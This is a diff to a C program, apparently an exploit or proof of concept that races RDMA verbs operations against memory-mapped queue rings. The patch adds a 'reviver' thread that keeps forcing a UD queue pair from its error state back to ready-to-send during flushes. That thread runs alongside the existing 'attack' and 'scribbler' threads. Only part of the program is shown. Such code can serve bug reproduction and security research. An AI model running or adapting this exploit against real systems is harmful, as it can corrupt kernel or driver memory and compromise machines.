@@ -39,13 +39,14 @@ struct victim {
 	uint8_t *buf;
 };
 
-static struct ibv_qp *make_qp(struct victim *v, enum ibv_qp_type type)
+static struct ibv_qp *make_qp(struct victim *v, enum ibv_qp_type type,
+			      uint32_t depth)
 {
 	struct ibv_qp_init_attr init = {
 		.qp_type = type,
 		.send_cq = v->cq,
 		.recv_cq = v->cq,
-		.cap = { .max_send_wr = 31, .max_recv_wr = 31,
+		.cap = { .max_send_wr = depth, .max_recv_wr = depth,
 			 .max_send_sge = 4, .max_recv_sge = 4 },
 	};
 	struct ibv_qp *qp = ibv_create_qp(v->pd, &init);
@@ -100,9 +101,10 @@ static void victim_create(struct victim *v)
 	v->cq = ibv_create_cq(port.ctx, 63, NULL, NULL, 0);
 	if (!v->mr || !v->ah || !v->cq)
 		die_errno(errno, "MR, AH or CQ");
-	v->qp[0] = make_qp(v, IBV_QPT_RC);
-	v->qp[1] = make_qp(v, IBV_QPT_RC);
-	v->ud = make_qp(v, IBV_QPT_UD);
+	v->qp[0] = make_qp(v, IBV_QPT_RC, 31);
+	v->qp[1] = make_qp(v, IBV_QPT_RC, 31);
+	/* More than is flushed in one go */
+	v->ud = make_qp(v, IBV_QPT_UD, 255);
 	record_rings_end();
 	connect_all(v);
 }
@@ -276,6 +278,21 @@ static void *scribbler(void *arg)
 	return NULL;
 }
 
+/* From SQE to RTS, as soon as anything has failed, while more is being flushed. */
+static void *reviver(void *arg)
+{
+	struct victim *v = arg;
+	struct ibv_qp_attr attr = {
+		.qp_state = IBV_QPS_RTS, .cur_qp_state = IBV_QPS_SQE,
+	};
+
+	while (!stop) {
+		ibv_modify_qp(v->ud, &attr, IBV_QP_STATE | IBV_QP_CUR_STATE);
+		usleep(MAX_PAUSE_US);
+	}
+	return NULL;
+}
+
 /* mmap order: the CQ, then the receive and send queue of each QP. */
 static void attack(struct victim *v)
 {
@@ -337,7 +354,7 @@ static void parse(int argc, char **argv)
 int main(int argc, char **argv)
 {
 	const struct rlimit unlimited = { RLIM_INFINITY, RLIM_INFINITY };
-	pthread_t scribblers[16], attacker;
+	pthread_t scribblers[16], attacker, revives;
 	struct victim v = { 0 };
 	uintptr_t i;
 
@@ -350,10 +367,12 @@ int main(int argc, char **argv)
 	if (nr_rings != 7)
 		die("expected 7 rings (CQ, 3 x RQ and SQ), found %u", nr_rings);
 	pthread_create(&attacker, NULL, run_attack, &v);
+	pthread_create(&revives, NULL, reviver, &v);
 	for (i = 0; i < threads; i++)
 		pthread_create(&scribblers[i], NULL, scribbler, (void *)i);
 	pthread_join(attacker, NULL);
 	stop = true;
+	pthread_join(revives, NULL);
 	for (i = 0; i < threads; i++)
 		pthread_join(scribblers[i], NULL);
 	victim_destroy(&v);
